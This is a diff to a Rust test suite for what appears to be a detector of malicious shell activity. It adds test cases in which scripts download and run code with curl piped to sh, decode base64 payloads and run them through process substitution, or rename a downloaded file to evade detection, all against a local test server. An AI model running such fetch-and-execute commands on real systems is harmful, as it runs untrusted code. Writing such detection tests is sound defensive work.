@@ -29,10 +29,19 @@ fn script_in_tmp(scene: &Scene, text: &str) -> u32 {
 
 /// The same with a server behind the port that is its second argument, which answers with these bytes.
 fn served(scene: &Scene, text: &str, answer: &[u8]) -> u32 {
+    served_to("/bin/sh", scene, text, answer)
+}
+
+/// The same with bash.
+fn bash(scene: &Scene, text: &str, answer: &[u8]) -> u32 {
+    served_to("/bin/bash", scene, text, answer)
+}
+
+fn served_to(shell: &str, scene: &Scene, text: &str, answer: &[u8]) -> u32 {
     let (file, place) = (scene.file("script.sh"), scene.directory());
     fs::write(&file, text).unwrap();
     scene.answered(answer, |port| {
-        let mut command = Command::new("/bin/sh");
+        let mut command = Command::new(shell);
         for proxy in ["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"] {
             command.env_remove(proxy);
         }
@@ -112,6 +121,15 @@ pub const CASES: &[Case] = &[
         benign: &[act("downloaded_and_shown", |s| {
             served(s, "curl -s http://127.0.0.1:$2/ | cat; echo 'id -u' | sh", HTTP)
         })],
+    },
+    Case {
+        rule: "Payload read through a pipe",
+        attacks: &[
+            act("decoded", |s| bash(s, "bash <(echo aWQgLXUK | base64 -d)", b"")).showing(&["T1140"]),
+            act("downloaded", |s| bash(s, "sh <(curl -s http://127.0.0.1:$2/)", HTTP)).showing(&["T1105"]),
+        ],
+        evasions: &[],
+        benign: &[act("read_as_data", |s| bash(s, "cat <(echo aWQgLXUK | base64 -d); sh <(echo id -u)", b""))],
     },
     Case {
         rule: "Decoded file run",
@@ -198,6 +216,25 @@ os.spawnl(os.P_WAIT, name, name)";
         .showing(&["T1105"])],
         benign: &[act("downloaded_and_read", |s| {
             served(s, "curl -s -o $1/p http://127.0.0.1:$2/; cat $1/p; /bin/true", HTTP)
+        })],
+    },
+    Case {
+        rule: "Downloaded script run",
+        attacks: &[act("curl", |s| served(s, "curl -s -o $1/p http://127.0.0.1:$2/; sh $1/p", HTTP))],
+        evasions: &[act("renamed_and_a_program", |s| {
+            let text = "curl -s -o $1/p http://127.0.0.1:$2/; mv $1/p $1/q; chmod +x $1/q; cd $1; sh q";
+            served(s, text, HTTP)
+        })],
+        benign: &[act("downloaded_and_read", |s| {
+            served(s, "curl -s -o $1/p http://127.0.0.1:$2/; cat $1/p; echo id > $1/q; sh $1/q", HTTP)
+        })],
+    },
+    Case {
+        rule: "Redirected download run",
+        attacks: &[act("curl", |s| served(s, "curl -s http://127.0.0.1:$2/ > $1/p; sh $1/p", HTTP))],
+        evasions: &[],
+        benign: &[act("downloaded_and_read", |s| {
+            served(s, "curl -s http://127.0.0.1:$2/ > $1/p; cat $1/p; echo id > $1/q; sh $1/q", HTTP)
         })],
     },
     Case {
